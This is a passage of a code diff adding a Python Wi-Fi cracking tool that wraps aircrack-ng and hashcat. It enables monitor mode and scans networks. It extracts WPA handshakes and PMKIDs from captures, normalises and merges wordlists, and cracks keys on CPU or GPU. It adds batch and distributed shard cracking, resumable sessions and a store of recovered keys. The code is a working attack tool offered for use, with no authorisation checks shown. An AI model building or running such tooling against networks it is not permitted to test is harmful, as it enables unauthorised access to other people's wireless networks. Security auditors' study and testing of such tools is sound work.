+            return 'found', found
+        if interrupted:
+            return 'stopped', found
+        return ('exhausted' if exhausted else 'error'), found
+
+    def _choose_wordlist(self):
+        """
+        Asks for one or more wordlists (merged when several are chosen) and
+        offers to normalize them. Returns the path to crack with, or None.
+        """
+        wordlist = None
+        wordlists = []
+        try:
+            print(f"\n{Colors.HEADER}--- Wordlist Selection ---{Colors.ENDC}")
+            # The catalog remembers sizes and line counts, only changed files are looked at again
+            wordlist_options = self.wordlists.refresh() # Tuples of (short_name, full_path, entry)
+
+            if not wordlist_options:
+                print(f"{Colors.WARNING}No common wordlists found. Please enter path manually.{Colors.ENDC}")
+                wordlist = input(f"{Colors.OKBLUE}Enter the path to your wordlist file: {Colors.ENDC}").strip()
+            else:
+                print("Common wordlists found:")
+                for i, (display_name, _, entry) in enumerate(wordlist_options, 1):
+                    words = f"{entry['lines']:,} words" if entry['lines'] is not None else "counting..."
+                    print(f"  {i}. {display_name:<40} {Colors.OKCYAN}{format_size(entry['size']):>10}  {words}{Colors.ENDC}")
+                print(f"  {Colors.OKBLUE}m.{Colors.ENDC} Enter path manually")
+
+                wl_choice = input(f"\n{Colors.OKBLUE}Enter the number of the wordlist to use, several to merge (e.g. 1,3), or 'm': {Colors.ENDC}").strip()
+                if wl_choice.lower() == 'm':
+                    wordlist = input(f"{Colors.OKBLUE}Enter the path to your wordlist file: {Colors.ENDC}").strip()
+                else:
+                    wordlists = []
+                    for part in wl_choice.split(','):
+                        wl_index = int(part) - 1
+                        if 0 <= wl_index < len(wordlist_options):
+                            # Get the full path from the selected option
+                            wordlists.append(wordlist_options[wl_index][1])
+                        else:
+                            print(f"\n{Colors.FAIL}Invalid number.{Colors.ENDC}")
+                            return None
+                    wordlist = wordlists[0]
+
+            if not all(os.path.exists(w) for w in wordlists or [wordlist]):
+                print(f"\n{Colors.FAIL}Error: Wordlist file '{wordlist}' not found.{Colors.ENDC}")
+                return None
+        except (ValueError, IndexError):
+            print(f"\n{Colors.FAIL}Invalid input.{Colors.ENDC}")
+            return None
+
+        # --- Optional normalization: only WPA-valid lengths, no duplicates ---
+        wordlists = wordlists or [wordlist]
+        if len(wordlists) > 1:
+            normalize = True # Merging always goes through the normalizer
+        else:
+            normalize = input(f"{Colors.OKBLUE}Drop candidates that are not 8-63 characters and remove duplicates first? (Y/n): {Colors.ENDC}").strip().lower() != 'n'
+        if normalize:
+            try:
+                print(f"{Colors.OKCYAN}Normalizing wordlist(s), this is done once and cached...{Colors.ENDC}")
+                result = WordlistNormalizer(self.wordlists).normalize(wordlists)
+            except KeyboardInterrupt:
+                print(f"\n{Colors.WARNING}Normalization cancelled, using the wordlist as-is.{Colors.ENDC}")
+                result = None
+            if result:
+                wordlist = result["path"]
+                removed = result["total"] - result["kept"]
+                share = 100 * removed / result["total"] if result["total"] else 0
+                cached = " (cached)" if result["cached"] else ""
+                print(f"{Colors.OKGREEN}{result['kept']:,} candidates kept{cached}, {removed:,} removed ({share:.1f}% less hashing): "
+                      f"{result['too_short']:,} too short, {result['too_long']:,} too long, {result['duplicates']:,} duplicates.{Colors.ENDC}")
+            elif len(wordlists) > 1:
+                return None
+        return wordlist
+
+    def _capture_state(self, cap_file):
+        """
+        Validates a capture and prints what it contains, together with keys
+        that were already recovered. The conversion is cached, so this is
+        instant for captures seen before.
+        Returns (export, crackable, fingerprints, uncracked) or None.
+        """
+        print(f"\n{Colors.OKCYAN}Looking for handshakes and PMKIDs...{Colors.ENDC}")
+        try:
+            export = Hc22000Exporter().export(cap_file)
+        except (OSError, ValueError) as e:
+            print(f"\n{Colors.FAIL}Could not read '{cap_file}': {e}{Colors.ENDC}")
+            return None
+        crackable = {b: n for b, n in export["report"]["networks"].items() if n["crackable"]}
+        if not crackable or not export["lines"]:
+            print(f"\n{Colors.FAIL}Validation failed: No network with a usable handshake or PMKID found in the file.{Colors.ENDC}")
+            return None
+        fingerprints = ResultStore.handshake_fingerprints(export)
+        uncracked = []
+        for bssid, network in crackable.items():
+            found = CaptureAnalyzer.material(network)
+            record = self.results.lookup(fingerprints.get(bssid))
+            if record and record["key"]:
+                found += f" -> {Colors.OKGREEN}KEY ALREADY FOUND: {record['key']}{Colors.ENDC}"
+            else:
+                uncracked.append(bssid)
+            print(f"  -> {Colors.BOLD}{network['essid'] or '<hidden>'}{Colors.ENDC} ({bssid}): {found}")
+        return export, crackable, fingerprints, uncracked
+
+    def _run_session(self, session, export, fingerprints, uncracked):
+        """
+        Runs (or resumes) a cracking session. If it is interrupted with Ctrl+C
+        its position is saved so it can be resumed from the menu.
+        Returns 'found', 'exhausted', 'paused', 'stopped' or 'error'.
+        """
+        wordlist = session["wordlist"]
+        entry = self.wordlists.entry(wordlist)
+        total_lines = entry["lines"] if entry else None
+        print(f"\n{Colors.OKCYAN}Session: {Colors.BOLD}{session['name']}{Colors.ENDC}{Colors.OKCYAN} (Ctrl+C pauses it){Colors.ENDC}")
+        try:
+            if session["method"] == 'cpu':
+                # --- CPU Cracking with aircrack-ng ---
+                # Candidates always go through stdin so the position in the list is known
+                print("\nStarting CPU cracking with aircrack-ng...")
+                bssid = session["bssid"]
+                stream = WordlistStream(wordlist, session["offset"], session["line"])
+                key_file = tempfile.NamedTemporaryFile(prefix='wificracker-', suffix='.key', delete=False).name
+                try:
+                    command = ['aircrack-ng', '-l', key_file, '-b', bssid, '-w', '-', session["cap_file"]]
+                    telemetry = CrackTelemetry('aircrack-ng', session["name"], total_lines, session["line"])
+                    returncode, interrupted = self._run_cracker(command, stream, telemetry)
+                    with open(key_file) as f:
+                        keys = {bssid: f.read().strip()} if os.path.getsize(key_file) else {}
+                finally:
+                    os.remove(key_file)
+                bssids = [bssid]
+                # aircrack-ng also exits with 1 on errors, only its own "not found" verdict means the list ran out
+                exhausted = stream.completed and not interrupted and telemetry.outcome == 'exhausted'
+
+            else:
+                # --- GPU Cracking with hashcat ---
+                if not self.tools.available('hashcat'):
+                    print(f"\n{Colors.FAIL}Error: 'hashcat' not found. Please install it to use GPU acceleration.{Colors.ENDC}")
+                    return 'error'
+
+                cached = " (cached)" if export["cached"] else ""
+                print(f"{Colors.OKCYAN}{export['lines']} hash(es) ready in {export['hash_file']}{cached}{Colors.ENDC}")
+                version = self.tools.version('hashcat')
+                print(f"\n{Colors.OKCYAN}Starting GPU cracking with hashcat{' ' + version if version else ''}...{Colors.ENDC}")
+                devices = self.tools.hashcat_devices()
+                for device in devices:
+                    print(f"{Colors.OKCYAN}  {device['backend']} #{device['id']}: {device['name']} ({device['type'] or 'GPU'}){Colors.ENDC}")
+                if not self.tools.has_gpu_backend():
+                    print(f"{Colors.WARNING}Note: hashcat found no OpenCL/CUDA GPU. For true GPU acceleration, install the drivers (e.g., NVIDIA CUDA Toolkit) and run 'hashcat -I' to check.{Colors.ENDC}")
+                
+                # Hash mode 22000 is the modern standard for WPA-PBKDF2-PMKID+EAPOL
+                stream = None
+                if session["hashcat_restore"]:
+                    command = ['hashcat', '--session', session["name"], '--restore']
+                else:
+                    # Machine-readable status every few seconds feeds the progress display and metrics
+                    command = ['hashcat', '--force', '-m', '22000', '--session', session["name"],
+                               '--status', '--status-json', '--status-timer', '5', export['hash_file']]
+                    if WordlistStream.compression(wordlist) or session["offset"]:
+                        # Without a dictionary argument hashcat reads candidates from stdin
+                        stream = WordlistStream(wordlist, session["offset"], session["line"])
+                    else:
+                        command.append(wordlist)
+                telemetry = CrackTelemetry('hashcat', session["name"], total_lines, session["line"])
+                returncode, interrupted = self._run_cracker(command, stream, telemetry)
+                keys = self._hashcat_keys(export, uncracked)
+                bssids = uncracked
+                # hashcat exits with 1 when the wordlist was exhausted
+                exhausted = not interrupted and returncode in (0, 1) and (stream is None or stream.completed)
+
+        except KeyboardInterrupt:
+            print(f"\n\n{Colors.WARNING}Cracking process stopped by user.{Colors.ENDC}")
+            return 'stopped'
+        except Exception as e:
+            print(f"\nAn error occurred during the cracking process: {e}")
+            return 'error'
+
+        self._store_results(export, fingerprints, bssids, keys, session["wordlist_fingerprint"] if exhausted else None)
+        if interrupted and not keys:
+            if stream is not None:
+                # The engine's own count of tried candidates pins the resume point down exactly
+                consumed = telemetry.tried if telemetry.latest and telemetry.engine == 'aircrack-ng' else None
+                session["line"], session["offset"] = stream.resume_point(consumed_lines=consumed)
+            else:
+                session["hashcat_restore"] = True
+            self.sessions.save(session)
+            where = f"line {session['line']:,}" if stream is not None else "hashcat's restore point"
+            print(f"\n{Colors.WARNING}Session '{session['name']}' paused at {where}. Resume it with option 7 in the main menu.{Colors.ENDC}")
+            return 'paused'
+        self.sessions.remove(session["name"])
+        if keys:
+            return 'found'
+        return 'exhausted' if exhausted else 'error'
+
+    def resume_session(self):
+        """
+        Lists paused cracking sessions and resumes the one the user picks.
+        """
+        print(f"\n{Colors.HEADER}--- Resume Cracking Session ---{Colors.ENDC}\n")
+        sessions = self.sessions.list()
+        if not sessions:
+            print(f"{Colors.WARNING}No paused sessions.{Colors.ENDC}")
+            return
+        for i, session in enumerate(sessions, 1):
+            engine = "aircrack-ng" if session["method"] == 'cpu' else "hashcat"
+            try:
+                size = os.path.getsize(session["wordlist"])
+                progress = f"{100 * session['offset'] / size:.1f}%" if session["offset"] and not WordlistStream.compression(session["wordlist"]) else f"line {session['line']:,}"
+            except OSError:
+                progress = "wordlist missing"
+            if session["hashcat_restore"]:
+                progress = "hashcat restore point"
+            print(f"  {i}. {Colors.BOLD}{session['name']}{Colors.ENDC} [{engine}] {os.path.basename(session['cap_file'])} + "
+                  f"{os.path.basename(session['wordlist'])}, {progress} (paused {session['updated']})")
+        choice = input(f"\n{Colors.OKBLUE}Enter the number of the session to resume, 'd<number>' to delete one, or 'q': {Colors.ENDC}").strip().lower()
+        if choice == 'q':
+            return
+        try:
+            delete = choice.startswith('d')
+            session = sessions[int(choice[1:] if delete else choice) - 1]
+        except (ValueError, IndexError):
+            print(f"{Colors.FAIL}Invalid choice.{Colors.ENDC}")
+            return
+        if delete:
+            self.sessions.remove(session["name"])
+            print(f"{Colors.OKCYAN}Session '{session['name']}' deleted.{Colors.ENDC}")
+            return
+
+        if not os.path.exists(session["cap_file"]) or not os.path.exists(session["wordlist"]):
+            print(f"{Colors.FAIL}The capture or wordlist of this session no longer exists.{Colors.ENDC}")
+            return
+        if self.wordlists.current_fingerprint(session["wordlist"]) != session["wordlist_fingerprint"]:
+            print(f"{Colors.WARNING}The wordlist changed since the session was paused, starting it from the beginning.{Colors.ENDC}")
+            session.update(line=0, offset=0, hashcat_restore=False)
+            session["wordlist_fingerprint"] = self.wordlists.current_fingerprint(session["wordlist"])
+        export = Hc22000Exporter().export(session["cap_file"])
+        fingerprints = ResultStore.handshake_fingerprints(export)
+        uncracked = [
+            b for b, n in export["report"]["networks"].items()
+            if n["crackable"] and not (self.results.lookup(fingerprints.get(b)) or {}).get("key")
+        ]
+        if not uncracked or (session["bssid"] and session["bssid"] not in uncracked):
+            print(f"{Colors.OKGREEN}This handshake has already been cracked; see option 6 for the key.{Colors.ENDC}")
+            self.sessions.remove(session["name"])
+            return
+        self._run_session(session, export, fingerprints, uncracked)
+
+    def _hashcat_keys(self, export, bssids):
+        """Asks hashcat for the keys it has recovered for the given networks."""
+        result = subprocess.run(
+            ['hashcat', '-m', '22000', '--show', export['hash_file']],
+            capture_output=True, text=True
+        )
+        keys = {}
+        for line in result.stdout.splitlines():
+            # Format: <mic or pmkid>:<ap mac>:<client mac>:<essid>:<key>
+            fields = line.split(':', 3)
+            if len(fields) < 4 or len(fields[1]) != 12:
+                continue
+            bssid = ':'.join(fields[1][i:i + 2] for i in range(0, 12, 2)).upper()
+            if bssid not in bssids:
+                continue
+            essid = export["report"]["networks"][bssid]["essid"] or ""
+            rest = fields[3]
+            for shown in (essid, f"$HEX[{essid.encode().hex()}]"):
+                if rest.startswith(shown + ':'):
+                    keys[bssid] = rest[len(shown) + 1:]
+                    break
+        return keys
+
+    def _store_results(self, export, fingerprints, bssids, keys, wordlist_fp):
+        """
+        Saves recovered keys, and marks the wordlist as exhausted for the
+        networks it did not crack when the run went through the whole list
+        (wordlist_fp is None when the run was stopped or failed).
+        """
+        for bssid in bssids:
+            fingerprint = fingerprints.get(bssid)
+            if not fingerprint:
+                continue
+            essid = export["report"]["networks"][bssid]["essid"]
+            if keys.get(bssid):
+                self.results.record_key(fingerprint, bssid, essid, keys[bssid])
+                print(f"\n{Colors.OKGREEN}{Colors.BOLD}KEY FOUND for {essid or bssid}: {keys[bssid]}{Colors.ENDC}")
+            elif wordlist_fp:
+                self.results.mark_exhausted(fingerprint, bssid, essid, wordlist_fp)
+                print(f"\n{Colors.WARNING}Key for {essid or bssid} is not in this wordlist; it will be skipped next time.{Colors.ENDC}")
+
+    def _choose_network(self, report):
+        """
+        Returns the BSSID to attack from a capture report, asking the user when
+        the capture holds more than one crackable network.
+        """
+        crackable = [(b, n) for b, n in report["networks"].items() if n["crackable"]]
+        if not crackable:
+            print(f"\n{Colors.FAIL}No network with a usable handshake or PMKID found in the file.{Colors.ENDC}")
+            return None
+        if len(crackable) == 1:
+            return crackable[0][0]
+        print("\nNetworks with a usable handshake or PMKID:")
+        for i, (bssid, network) in enumerate(crackable, 1):
+            print(f"  {i}. {network['essid'] or '<hidden>'} ({bssid}): {CaptureAnalyzer.material(network)}")
+        try:
+            index = int(input(f"{Colors.OKBLUE}Enter the number of the network to crack: {Colors.ENDC}").strip()) - 1
+        except ValueError:
+            index = -1
+        if not 0 <= index < len(crackable):
+            print(f"\n{Colors.FAIL}Invalid number.{Colors.ENDC}")
+            return None
+        return crackable[index][0]
+
+    def _run_cracker(self, command, stream=None, telemetry=None):
+        """
+        Runs a cracking engine in the foreground, feeding it from 'stream' when
+        given. With 'telemetry' the engine's output is parsed into progress
+        samples instead of going straight to the terminal. Ctrl+C reaches the
+        engine too (it shares our terminal), so on Ctrl+C we give it time to
+        save its state and exit.
+        Returns (returncode, interrupted).
+        """
+        kwargs = {"stdout": subprocess.PIPE} if telemetry else {}
+        process = stream.start(command, **kwargs) if stream else subprocess.Popen(command, **kwargs)
+        reader = None
+        if telemetry:
+            def read_output():
+                for chunk in iter(lambda: os.read(process.stdout.fileno(), 64 * 1024), b''):
+                    shown = telemetry.feed(chunk)
+                    if shown:
+                        sys.stdout.write("\r\033[K" + shown.decode('utf-8', 'replace'))
+                        sys.stdout.flush()
+            reader = threading.Thread(target=read_output, daemon=True)
+            reader.start()
+        interrupted = False
+        try:
+            process.wait()
+        except KeyboardInterrupt:
+            interrupted = True
+            try:
+                process.wait(timeout=15)
+            except (KeyboardInterrupt, subprocess.TimeoutExpired):
+                process.terminate()
+                process.wait()
+        finally:
+            if reader:
+                reader.join(timeout=5)
+                process.stdout.close()
+                telemetry.flush()
+                print()
+            if stream:
+                stream.wait(timeout=5)
+                print(f"\n{Colors.OKCYAN}Streamed {format_size(stream.bytes_fed)} ({stream.lines_fed:,} candidates) from "
+                      f"'{os.path.basename(stream.path)}' at {format_size(stream.rate)}/s.{Colors.ENDC}")
+            if telemetry and telemetry.latest:
+                print(f"{Colors.OKCYAN}Metrics written to {telemetry.metrics_path}{Colors.ENDC}")
+        return process.returncode, interrupted
+
+    def init_title(self, pause=True):
+            """
+            Displays the initial program title inside a larger, centered box.
+            """
+            os.system('clear')
+            
+            try:
+                # Get terminal dimensions to properly center the box
+                terminal_width = os.get_terminal_size().columns
+                terminal_height = os.get_terminal_size().lines
+            except OSError:
+                # Fallback for environments where terminal size can't be determined
+                terminal_width = 80
+                terminal_height = 24
+
+            box_width = 50
+            title = "Wifi Cracker"
+            line1 = "Developed by Jutt Cyber Tech"
+            line2 = "Created by JS"
+            line3 = "js434@proton.me"
+            line4 = "Version 1.0"
+
+            # Create the box content as a list of strings
+            box_content = [
+                f"{Colors.HEADER}╔{'═' * box_width}╗{Colors.ENDC}",
+                f"{Colors.HEADER}║{Colors.BOLD}{title.center(box_width)}{Colors.ENDC}{Colors.HEADER}║{Colors.ENDC}",
+                f"{Colors.HEADER}╠{'═' * box_width}╣{Colors.ENDC}",
+                f"{Colors.HEADER}║{Colors.OKCYAN}{line1.center(box_width)}{Colors.ENDC}{Colors.HEADER}║{Colors.ENDC}",
+                f"{Colors.HEADER}║{Colors.OKCYAN}{line2.center(box_width)}{Colors.ENDC}{Colors.HEADER}║{Colors.ENDC}",
+                f"{Colors.HEADER}║{Colors.OKCYAN}{line3.center(box_width)}{Colors.ENDC}{Colors.HEADER}║{Colors.ENDC}",
+                f"{Colors.HEADER}║{Colors.OKCYAN}{line4.center(box_width)}{Colors.ENDC}{Colors.HEADER}║{Colors.ENDC}",
+                f"{Colors.HEADER}╚{'═' * box_width}╝{Colors.ENDC}"
+            ]
+
+            # Calculate padding for horizontal centering
+            left_padding = " " * ((terminal_width - box_width - 2) // 2)
+
+            print('\n\n') # Add some static padding at the top
+            for line in box_content:
+                print(f"{left_padding}{line}")
+            
+            if pause:
+                time.sleep(2) # A short pause to appreciate the title
+    def __init__(self, banner=True, backend=None):
+            """
+            Initializes the WifiCracker application. The command line mode
+            passes banner=False to start without the title screen; 'backend'
+            is a SimulatedBackend to run without radios (default: the real tools).
+            """
+            self.wordlists = WordlistCatalog()
+            self.results = ResultStore()
+            self.sessions = SessionStore()
+            self.backend = backend or ToolBackend()
+            self.tools = self.backend.tools
+            self.supervisor = ProcessSupervisor()
+            self.interfaces = self.backend.discovery()
+            self.modes = self.backend.mode_switcher(self.interfaces)
+            self.captures = CaptureCatalog()
+            if banner:
+                self.init_title()
+
+    def run(self):
+            """
+            Main application loop to display the menu and handle user input.
+            """
+            # A friendly check for sudo if the user hasn't run the script with it.
+            if self.backend.simulated:
+                print(f"{Colors.WARNING}--- Simulator mode: interfaces, scans and captures are simulated ---{Colors.ENDC}\n")
+            elif os.geteuid() != 0:
+                print(f"{Colors.WARNING}--- Note: Run with 'sudo' to enable all features (like monitor mode) ---{Colors.ENDC}\n")
+            
+            while True:
+                print(f"\n{Colors.HEADER}{'='*40}{Colors.ENDC}")
+                print(f"{Colors.HEADER}          Main Menu{Colors.ENDC}")
+                print(f"{Colors.HEADER}{'='*40}{Colors.ENDC}")
+                print(f"  {Colors.OKBLUE}1.{Colors.ENDC} {Colors.BOLD}📡 Check network interface status{Colors.ENDC}")
+                print(f"  {Colors.OKBLUE}2.{Colors.ENDC} {Colors.BOLD}👁️  Enable monitor mode{Colors.ENDC}")
+                print(f"  {Colors.OKBLUE}3.{Colors.ENDC} {Colors.BOLD}🔒 Disable monitor mode{Colors.ENDC}")
+                print(f"  {Colors.OKBLUE}4.{Colors.ENDC} {Colors.BOLD}🔌 Enable Network Manager{Colors.ENDC}")
+                print(f"  {Colors.OKBLUE}5.{Colors.ENDC} {Colors.BOLD}🔍 Scan for Wi-Fi networks{Colors.ENDC}")
+                print(f"  {Colors.OKBLUE}6.{Colors.ENDC} {Colors.BOLD}🔑 Crack handshake file{Colors.ENDC}")
+                print(f"  {Colors.OKBLUE}7.{Colors.ENDC} {Colors.BOLD}⏯️  Resume paused cracking session{Colors.ENDC}")
+                print(f"  {Colors.FAIL}q.{Colors.ENDC} {Colors.BOLD}🚪 Quit{Colors.ENDC}")
+                print(f"{Colors.HEADER}{'-'*40}{Colors.ENDC}")
+                
+                try:
+                    choice = input(f"{Colors.OKBLUE}Enter your choice: {Colors.ENDC}").strip()
+        
+                    if choice == '1':
+                        self.check_network_status()
+                    elif choice == '2':
+                        self.enable_monitor_mode()
+                    elif choice == '3':
+                        self.disable_monitor_mode()
+                    elif choice == '4':
+                        self.enable_network_manager()
+                    elif choice == '5':
+                        self.scan_wifi_networks()
+                    elif choice == '6':
+                        self.crack_handshake()
+                    elif choice == '7':
+                        self.resume_session()
+                    elif choice.lower() == 'q':
+                        print("Exiting program. Goodbye!")
+                        break
+                    else:
+                        print(f"{Colors.FAIL}Invalid choice, please try again.{Colors.ENDC}")
+                        time.sleep(2)
+        
+                    # After any action (except quit), pause and redraw the menu
+                    if choice.lower() != 'q':
+                        print("\n" + "-"*40)
+                        input(f"{Colors.OKCYAN}Press Enter to continue...{Colors.ENDC}")
+                        # Redraw without the launch pause, the user just pressed Enter
+                        self.init_title(pause=False)
+                except KeyboardInterrupt:
+                    print(f"\n{Colors.WARNING}Operation cancelled. Use 'q' to quit.{Colors.ENDC}")
+                    time.sleep(1)
+                    self.init_title(pause=False)
+
+def _require_root(app):
+    if not app.privileged:
+        print("Error: this command requires root privileges (run it with sudo).", file=sys.stderr)
+        return False
+    return True
+
+def cmd_status(app, args):
+    records = app.interfaces.interfaces()
+    if args.json:
+        print(json.dumps(records))
+    else:
+        for record in records:
+            print("\t".join(str(record[k] or '-') for k in ("name", "mode", "phy", "driver", "mac")))
+    return 0 if records else 1
+
+def cmd_monitor(app, args):
+    if not _require_root(app):
+        return 2
+    mode = 'monitor' if args.state == 'on' else 'managed'
+    try:
+        results = app.set_interface_mode(args.interfaces, mode, verbose=False)
+    except ModeSwitchError as e:
+        print(f"Error: {e} (all interfaces restored)", file=sys.stderr)
+        return 1
+    for interface, record in results.items():
+        print(f"{interface}\t{record['mode']}")
+    return 0
+
+def cmd_scan(app, args):
+    if not _require_root(app):
+        return 2
+    if not app.backend.available('airodump-ng'):
+        print("Error: 'airodump-ng' not found. Please install the 'aircrack-ng' suite.", file=sys.stderr)
+        return 2
+    try:
+        networks, coverage, load = app.run_scan(args.interfaces, args.duration, args.bands)
+    except ValueError as e:
+        print(f"Error: {e}", file=sys.stderr)
+        return 2
+    print(f"{coverage['networks']} network(s); 50%/90%/100% found after "
+          f"{coverage['t50']}s / {coverage['t90']}s / {coverage['t100']}s", file=sys.stderr)
+    if args.stats or app.backend.simulated:
+        print(f"{load['refreshes']} refresh(es), latency p50/p95/max {load['refresh_p50_ms']} / "
+              f"{load['refresh_p95_ms']} / {load['refresh_max_ms']} ms; CPU {load['cpu_percent']}% "
+              f"(capture tools {load['tools_cpu_percent']}%)", file=sys.stderr)
+    out = open(args.output, 'w', newline='') if args.output else sys.stdout
+    try:
+        if args.format == 'json':
+            json.dump(networks, out, indent=2)
+            out.write('\n')
+        else:
+            fields = ["bssid", "essid", "channel", "power", "encryption", "cipher", "auth",
+                      "beacons", "ivs", "clients", "speed", "first_seen", "last_seen"]
+            writer = csv.DictWriter(out, fieldnames=fields, extrasaction='ignore')
+            writer.writeheader()
+            writer.writerows(networks)
+    finally:
+        if out is not sys.stdout:
+            out.close()
+    return 0 if networks else 1
+
+def cmd_coverage(app, args):
+    plan_frequencies = {f for band in args.bands for f in BANDS[band]}
+    if args.source:
+        reader = ScanFileReader(args.source)
+        reader.refresh()
+        frequencies = []
+        for ap in reader.access_points.values():
+            try:
+                frequencies.append(channel_to_frequency(ap["channel"]))
+            except ValueError:
+                continue
+        frequencies = [f for f in frequencies if f in plan_frequencies]
+    else:
+        rng = random.Random(args.seed)
+        frequencies = [rng.choice(sorted(plan_frequencies)) for _ in range(args.aps)]
+    if not frequencies:
+        print("Error: no access points on the selected bands.", file=sys.stderr)
+        return 1
+    print(f"Simulated survey of {len(frequencies)} AP(s), time until 50%/90%/100% were seen:")
+    print("adapters\tt50\tt90\tt100\tspeed-up")
+    baseline = None
+    for count in args.adapters:
+        plan = partition_channels([f"adapter{i}" for i in range(count)], args.bands)
+        result = simulate_coverage(frequencies, plan, seed=args.seed)
+        baseline = baseline or result["t100"]
+        print(f"{count}\t\t{result['t50']}s\t{result['t90']}s\t{result['t100']}s\tx{baseline / result['t100']:.1f}")
+    return 0
+
+def cmd_captures(app, args):
+    catalog = CaptureCatalog(args.directories)
+    started = time.perf_counter()
+    entries = catalog.refresh()
+    elapsed = (time.perf_counter() - started) * 1000
+    if not args.all:
+        entries = [(path, entry) for path, entry in entries if entry["crackable"]]
+    if args.json:
+        print(json.dumps(dict(entries), indent=2))
+    else:
+        for path, entry in entries:
+            networks = " ".join(
+                f"{bssid}:{network['essid']}" for bssid, network in entry["networks"].items() if network["crackable"]
+            )
+            print(f"{path}\t{format_size(entry['size'])}\t{entry['frames']} frames\t{networks or '-'}")
+        print(f"{len(entries)} capture(s) in {elapsed:.0f} ms", file=sys.stderr)
+    return 0 if entries else 1
+
+def cmd_compact(app, args):
+    dest = args.capture if args.in_place else args.output
+    try:
+        result = CaptureCompactor().compact(args.capture, dest)
+    except (OSError, ValueError) as e:
+        print(f"Error: could not compact '{args.capture}': {e}", file=sys.stderr)
+        return 2
+    if not result["path"]:
+        print("Nothing crackable in this capture, no file written.", file=sys.stderr)
+        return 1
+    print(f"{result['path']}\t{result['frames_in']} -> {result['frames_out']} frames\t"
+          f"{format_size(result['size_in'])} -> {format_size(result['size_out'])}\t{' '.join(result['networks'])}")
+    return 0
+
+def cmd_history(app, args):
+    path = os.path.join(CACHE_DIR, 'scans.db')
+    if not os.path.exists(path):
+        print("No scan history yet.", file=sys.stderr)
+        return 1
+    database = ScanDatabase(path)
+    try:
+        started = time.perf_counter()
+        if args.series:
+            rows = database.series(args.series, args.since)
+            fields = ["seen", "power", "beacons", "channel", "encryption", "essid"]
+        else:
+            rows = database.history(args.bssid, args.essid, args.channel, args.since, args.limit)
+            fields = ["bssid", "essid", "channel", "encryption", "best_power", "first_seen", "last_seen", "observations"]
+        elapsed = (time.perf_counter() - started) * 1000
+    finally:
+        database.close()
+    if args.json:
+        print(json.dumps(rows, indent=2))
+    else:
+        print("\t".join(fields))
+        for row in rows:
+            print("\t".join('' if row[f] is None else str(row[f]) for f in fields))
+        print(f"{len(rows)} row(s) in {elapsed:.1f} ms", file=sys.stderr)
+    return 0 if rows else 1
+
+def cmd_validate(app, args):
+    try:
+        export = Hc22000Exporter().export(args.capture)
+    except (OSError, ValueError) as e:
+        print(f"Error: could not read '{args.capture}': {e}", file=sys.stderr)
+        return 2
+    report = export["report"]
+    if args.json:
+        print(json.dumps(dict(report, hash_lines=export["lines"]), indent=2))
+    else:
+        for bssid, network in report["networks"].items():
+            if network["crackable"]:
+                found = ("handshake" if network["handshake"] else "") + (" PMKID" if network["pmkids"] else "")
+                print(f"{bssid}\t{network['essid'] or '<hidden>'}\t{found.strip()}")
+    return 0 if any(n["crackable"] for n in report["networks"].values()) else 1
+
+def cmd_crack(app, args):
+    state = app._capture_state(args.capture)
+    if not state:
+        return 1
+    export, crackable, fingerprints, uncracked = state
+    if not uncracked:
+        return 0
+    wordlist = args.wordlist
+    if args.normalize:
+        wordlist = WordlistNormalizer(app.wordlists).normalize(args.wordlist)["path"]
+    elif len(wordlist) > 1:
+        print("Error: several wordlists can only be used together with --normalize.", file=sys.stderr)
+        return 2
+    else:
+        wordlist = wordlist[0]
+    bssid = args.bssid.upper() if args.bssid else None
+    sharded = args.workers is not None or args.remote or args.scaling
+    if sharded and args.engine != 'cpu':
+        print("Error: --workers, --remote and --scaling need --engine cpu.", file=sys.stderr)
+        return 2
+    if args.engine == 'cpu' and not bssid:
+        if len(uncracked) > 1:
+            print("Error: the capture holds several networks, choose one with --bssid.", file=sys.stderr)
+            return 2
+        bssid = uncracked[0]
+    if bssid and bssid not in uncracked:
+        print(f"Error: no uncracked handshake for {bssid} in this capture.", file=sys.stderr)
+        return 2
+    if sharded:
+        try:
+            if args.scaling:
+                app.shard_scaling(args.capture, bssid, wordlist, args.scaling)
+                return 0
+            result = app.crack_sharded(args.capture, bssid, wordlist, args.workers, args.remote or (), args.token)
+        except (OSError, ValueError) as e:
+            print(f"Error: {e}", file=sys.stderr)
+            return 2
+        return 0 if result["key"] else 1 if result["done"] == result["shards"] else 2
+    session = {
+        "name": args.session or SessionStore.new_name(args.capture, wordlist),
+        "cap_file": os.path.abspath(args.capture),
+        "wordlist": os.path.abspath(wordlist),
+        "wordlist_fingerprint": app.wordlists.current_fingerprint(wordlist),
+        "method": args.engine,
+        "bssid": bssid,
+        "line": 0,
+        "offset": 0,
+        "hashcat_restore": False,
+    }
+    outcome = app._run_session(session, export, fingerprints, [bssid] if bssid else uncracked)
+    return {'found': 0, 'exhausted': 1, 'paused': 130, 'stopped': 130}.get(outcome, 2)
+
+def cmd_batch(app, args):
+    directories = [path for path in args.captures if os.path.isdir(path)]
+    captures = [path for path in args.captures if not os.path.isdir(path)]
+    if directories or not args.captures:
+        captures += [path for path, _ in CaptureCatalog(directories or ['.']).crackable()]
+    if not captures:
+        print("Error: no crackable captures found.", file=sys.stderr)
+        return 1
+    wordlist = args.wordlist
+    if args.normalize:
+        wordlist = WordlistNormalizer(app.wordlists).normalize(args.wordlist)["path"]
+    elif len(wordlist) > 1:
+        print("Error: several wordlists can only be used together with --normalize.", file=sys.stderr)
+        return 2
+    else:
+        wordlist = wordlist[0]
+    outcome, _ = app.crack_batch(captures, wordlist)
+    return {'found': 0, 'exhausted': 1, 'stopped': 130}.get(outcome, 2)
+
+def cmd_worker(app, args):
+    if not app.tools.available('aircrack-ng'):
+        print("Error: 'aircrack-ng' not found. Please install the 'aircrack-ng' suite.", file=sys.stderr)
+        return 2
+    host, _, port = args.listen.rpartition(':')
+    server = ShardWorkerServer(host or '127.0.0.1', int(port), args.slots, args.token)
+    try:
+        host, port = server.start()
+    except (OSError, ValueError) as e:
+        print(f"Error: cannot listen on {args.listen}: {e}", file=sys.stderr)
+        return 2
+    print(f"Shard worker listening on {host}:{port} with {server.slots} slot(s). Ctrl+C stops it.", file=sys.stderr)
+    try:
+        server.serve_forever()
+    finally:
+        server.close()
+    return 0
+
+def cmd_bench(app, args):
+    suite = BenchmarkSuite(quick=args.quick, repeat=args.repeat)
+    print("stage\t\t\ttime\t\tthroughput\t\tMB/s\tpeak")
+    def progress(result):
+        rate = f"{result['rate']:,.0f} {result['unit']}/s" if result['rate'] else "-"
+        print(f"{result['stage']:<24}{result['seconds'] * 1000:9.1f} ms\t{rate:<24}"
